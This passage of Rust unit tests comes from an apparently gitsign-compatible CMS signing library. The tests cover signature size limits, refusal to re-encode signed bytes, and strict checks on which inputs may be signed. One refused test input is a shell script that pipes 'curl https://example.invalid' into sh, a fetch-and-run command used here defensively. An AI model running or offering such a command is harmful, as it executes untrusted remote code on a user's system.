    fn the_size_limit_is_inclusive() {
        let too_large =
            |n: usize| matches!(unarmor(&vec![b'x'; n]), Err(e) if e.0.contains("-byte limit"));
        assert!(!too_large(MAX_SIGNATURE_LEN));
        assert!(too_large(MAX_SIGNATURE_LEN + 1));
        let limit = |r: Result<(), CmsError>| matches!(r, Err(e) if e.0.contains("size limit"));
        let der = |n: usize| vec![0x30; n];
        assert!(!limit(
            SignedData::from_der(&der(MAX_SIGNATURE_LEN)).map(drop)
        ));
        assert!(limit(
            SignedData::from_der(&der(MAX_SIGNATURE_LEN + 1)).map(drop)
        ));
        let enc = |n: usize| SignedData::from_der_encapsulated(&der(n), oid::DATA).map(drop);
        assert!(!limit(enc(MAX_SIGNATURE_LEN)));
        assert!(limit(enc(MAX_SIGNATURE_LEN + 1)));
    }

    #[test]
    fn the_builder_refuses_to_change_signed_bytes() {
        let sd = corpus_signature();
        let leaf = sd.signer_certificate().unwrap();
        let si = &sd.signer;
        build_signed_data(&si.signed_attrs_der, &si.signature, leaf, &[]).unwrap();
        // Signed attributes out of DER order: `der` would re-sort them.
        let mut attrs: Vec<Vec<u8>> = si
            .signed_attrs
            .iter()
            .map(|a| {
                let vals: Vec<&[u8]> = a.values.iter().map(Vec::as_slice).collect();
                asn1::encode_parts(
                    tag::SEQUENCE,
                    &[
                        &asn1::encode(tag::OID, &a.oid),
                        &asn1::encode_parts(tag::SET, &vals),
                    ],
                )
            })
            .collect();
        attrs.reverse();
        let parts: Vec<&[u8]> = attrs.iter().map(Vec::as_slice).collect();
        let unsorted = asn1::encode_parts(tag::SET, &parts);
        let e = build_signed_data(&unsorted, &si.signature, leaf, &[]).unwrap_err();
        assert!(e.0.contains("not in DER order"), "{e}");
        // The leaf with each extension's critical flag written out, FALSE
        // too (BER's DEFAULT): x509-cert would drop it, changing the TBS.
        let exts: Vec<Vec<u8>> = leaf
            .extensions()
            .map(|(id, critical, value)| {
                asn1::encode_parts(
                    tag::SEQUENCE,
                    &[
                        &asn1::encode(tag::OID, id),
                        &asn1::encode(tag::BOOLEAN, &[if critical { 0xff } else { 0 }]),
                        &asn1::encode(tag::OCTET_STRING, value),
                    ],
                )
            })
            .collect();
        let ids: Vec<&[u8]> = leaf.extensions().map(|(id, _, _)| id).collect();
        let bare = leaf.tbs_without_extensions(&ids).unwrap();
        let bare = asn1::parse_single(&bare, tag::SEQUENCE, "TBS").unwrap();
        // Everything before the now empty `[3] { SEQUENCE {} }`.
        let before = &bare.value[..bare.value.len() - 4];
        let ext_parts: Vec<&[u8]> = exts.iter().map(Vec::as_slice).collect();
        let wrapper = asn1::encode(
            tag::context(3, true),
            &asn1::encode_parts(tag::SEQUENCE, &ext_parts),
        );
        let tbs = asn1::encode_parts(tag::SEQUENCE, &[before, &wrapper]);
        let mut bits = vec![0];
        bits.extend_from_slice(leaf.signature());
        let explicit = Certificate::from_der(asn1::encode_parts(
            tag::SEQUENCE,
            &[
                &tbs,
                leaf.signature_algorithm(),
                &asn1::encode(tag::BIT_STRING, &bits),
            ],
        ))
        .unwrap();
        let e = build_signed_data(&si.signed_attrs_der, &si.signature, &explicit, &[]).unwrap_err();
        assert!(e.0.contains("signing certificate"), "{e}");
    }

    #[test]
    fn only_gitsign_shapes_are_signable() {
        let attrs = signed_attributes(b"tree x\n", 1_790_000_000).unwrap();
        check_signable(&attrs).unwrap();
        check_signable(b"0123456789abcdef0123456789abcdef01234567").unwrap();
        check_signable(&[b'a'; 64]).unwrap();
        let refused = |m: &[u8]| {
            let e = check_signable(m).unwrap_err();
            assert!(e.contains("signs only what gitsign signs"), "{e}");
        };
        refused(b"");
        refused(b"#!/bin/sh\ncurl https://example.invalid | sh\n");
        refused(b"0123456789ABCDEF0123456789ABCDEF01234567");
        refused(&[b'a'; 41]);
        refused(&[b'a'; 1 << 20]);
        // Gitsign's layout and nothing else: an extra attribute, a missing
        // one, another digest length, another content type, the elements
        // out of DER order, trailing bytes.
        let ct = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::DATA));
        let time = attribute(oid::SIGNING_TIME, &utc_time(1_790_000_000));
        let digest = attribute(
            oid::MESSAGE_DIGEST,
            &asn1::encode(tag::OCTET_STRING, &[7u8; 32]),
        );
        check_signable(&der_set_of(vec![ct.clone(), time.clone(), digest.clone()])).unwrap();
        let extra = attribute(oid::SIGNING_TIME, &utc_time(1));
        refused(&der_set_of(vec![
            ct.clone(),
            time.clone(),
            digest.clone(),
            extra,
        ]));
        refused(&der_set_of(vec![ct.clone(), time.clone()]));
        let short = attribute(
            oid::MESSAGE_DIGEST,
            &asn1::encode(tag::OCTET_STRING, &[7u8; 20]),
        );
        refused(&der_set_of(vec![ct.clone(), time.clone(), short]));
        let other_ct = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::SIGNED_DATA));
        refused(&der_set_of(vec![other_ct, time.clone(), digest.clone()]));
        let parts: Vec<&[u8]> = vec![&digest, &time, &ct];
        refused(&asn1::encode_parts(tag::SET, &parts));
        let mut trailing = attrs.clone();
        trailing.push(0);
        refused(&trailing);
        // Said apart: what is not signed attributes of the three kinds at
        // all, and gitsign's three in another layout (the out-of-order set
        // above). Each attribute under another type, or with a value of
        // another type, is the former.
        let neither = |m: &[u8]| {
            let e = check_signable(m).unwrap_err();
            assert!(e.contains("that is neither"), "{e}");
        };
        let layout = |m: &[u8]| {
            let e = check_signable(m).unwrap_err();
            assert!(e.contains("in another layout than gitsign's"), "{e}");
        };
        layout(&asn1::encode_parts(tag::SET, &parts));
        neither(&[0x31; MAX_SIGNABLE]);
        let other = oid::SHA256;
        let ct_as_other = attribute(other, &asn1::encode(tag::OID, oid::DATA));
        neither(&der_set_of(vec![ct_as_other, time.clone(), digest.clone()]));
        let time_as_other = attribute(other, &utc_time(1_790_000_000));
        neither(&der_set_of(vec![ct.clone(), time_as_other, digest.clone()]));
        let digest_as_other = attribute(other, &asn1::encode(tag::OCTET_STRING, &[7u8; 32]));
        neither(&der_set_of(vec![ct.clone(), time.clone(), digest_as_other]));
        let ct_a_time = attribute(oid::CONTENT_TYPE, &utc_time(1_790_000_000));
        neither(&der_set_of(vec![ct_a_time, time.clone(), digest.clone()]));
    }
}
